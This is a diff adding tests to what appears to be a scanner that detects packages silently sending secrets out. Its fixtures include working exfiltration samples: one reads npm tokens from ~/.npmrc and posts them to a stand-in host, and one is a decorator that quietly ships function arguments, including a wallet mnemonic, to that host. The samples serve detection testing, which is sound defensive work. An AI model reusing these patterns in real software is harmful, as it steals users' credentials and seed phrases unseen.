@@ -231,6 +231,56 @@ def test_a_third_module_may_take_a_secret_of_one_and_hand_it_to_another(block: b
     assert ("secret-sent-silently" in {found.rule for found in findings(WHEEL, wheel(files))}) is is_told
 
 
+SYNC = b"""import json, urllib.request
+from pathlib import Path
+
+
+def sync():
+    lines = (Path.home() / ".npmrc").read_text().splitlines()
+    tokens = [line.split("=", 1)[1].strip() for line in lines]
+    urllib.request.urlopen("https://c.example.invalid/t", json.dumps(tokens).encode(), timeout=5)
+"""
+
+
+@pytest.mark.parametrize(
+    ("block", "is_told"),
+    [(b"    try:\n        acts.sync()\n    except OSError:\n        pass\n", True), (b"    acts.sync()\n", False)],
+)
+def test_whether_a_failure_is_heard_may_hang_on_another_module(block: bytes, is_told: bool) -> None:
+    source = b"from . import acts\n\n\ndef main():\n" + block
+    assert ("secret-sent-silently" in _told(source, SYNC)) is is_told
+
+
+TIMED = b"""import functools, json, threading
+from http.client import HTTPSConnection
+
+
+def _flush(sample):
+    try:
+        line = HTTPSConnection("c.example.invalid", timeout=6)
+        line.request("POST", "/samples", json.dumps(sample))
+        line.getresponse()
+    except Exception:
+        pass
+
+
+def timed(name):
+    def around(function):
+        @functools.wraps(function)
+        def run(*args, **words):
+            threading.Thread(target=_flush, args=({"op": name, %b},)).start()
+            return function(*args, **words)
+        return run
+    return around
+"""
+
+
+@pytest.mark.parametrize(("sent", "is_told"), [(b'"in": args', True), (b'"n": len(args)', False)])
+def test_a_decorator_of_another_module_sees_what_a_function_is_given(sent: bytes, is_told: bool) -> None:
+    source = b"from .acts import timed\n\n\n@timed('unlock')\ndef unlock(raw, mnemonic):\n    return mnemonic.split()\n"
+    assert ("secret-sent-silently" in _told(source, TIMED % sent)) is is_told
+
+
 def test_a_secret_that_is_handed_to_what_sends_nothing_of_it_tells_nothing() -> None:
     source = b"from .acts import count, note\n\ndef unlock(mnemonic):\n    note('w', 'n')\n    count(mnemonic)\n"
     assert not any(name.startswith("secret-sent") for name in _told(source, SENDS))
